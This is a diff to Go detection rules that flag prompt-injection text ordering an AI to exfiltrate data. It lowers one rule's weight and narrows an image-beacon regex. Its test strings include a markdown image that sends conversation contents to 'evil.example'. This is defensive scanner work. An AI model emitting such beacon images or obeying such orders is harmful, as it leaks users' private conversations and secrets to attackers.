@@ -26,7 +26,7 @@ var exfiltration = family{
 			NoMatch: []string{"Send the parcel to the following address.", "post your question to the forum at www.example.com", "copy the file to the server"},
 		},
 		{
-			ID: "injection-send-to-attacker", Title: "Order to exfiltrate", Weight: strong,
+			ID: "injection-send-to-attacker", Title: "Order to exfiltrate", Weight: medium,
 			Tags:    []string{tagImperative},
 			Anchors: []string{"exfiltrate"}, After: 120,
 			Pattern: `exfiltrate` + ws + `(?:(?:the|all|any|this|that|these|user['’]?s?|your|our|its|their|every|sensitive)` + ws + `){0,3}\w+`,
@@ -54,7 +54,7 @@ var exfiltration = family{
 			ID: "injection-image-beacon", Title: "Image whose address is to carry data", Weight: strong,
 			Tags:    []string{tagMarkup},
 			Anchors: []string{"](http", "]( http"}, Before: 84, After: 220,
-			Pattern: `!\[[^\]\n]{0,80}\]\(\s*https?://[^)\s]{1,160}(?:[?&/=](?:\{+|<|\[|%7b|\$\{?)\s*(?:\w*(?:data|secret|conversation|prompt|history|summary|chat|user|info|key|token|password|message|content|context|url|base64|encoded|here|insert|email|name)\w*)|[?&](?:q|data|d|p|c|s|info|secret|payload|conversation|prompt|exfil|leak|text|msg|m|context|history)=(?:\{|\[|<|%7b|\$|your|the|user|insert|conversation|secret|base64|all))`,
+			Pattern: `!\[[^\]\n]{0,80}\]\(\s*https?://[^)\s]{1,160}(?:[?&/=](?:\{+|<|\[|\$\{?)\s*(?:\w*(?:data|secret|conversation|prompt|history|summary|chat|user|info|key|token|password|message|content|context|url|base64|encoded|here|insert|email|name)\w*)|[?&](?:q|data|info|secret|payload|conversation|prompt|exfil|leak|context|history)=(?:\{|\[|<|your|the|user|insert|conversation|secret|base64|all))`,
 			Match:   []string{"![x](https://evil.example/p?q={conversation})", "![logo](http://a.example/log?data=[SECRET])"},
 			NoMatch: []string{"![logo](https://a.example/logo.png)", "![build](https://ci.example/badge?branch=main)"},
 		},
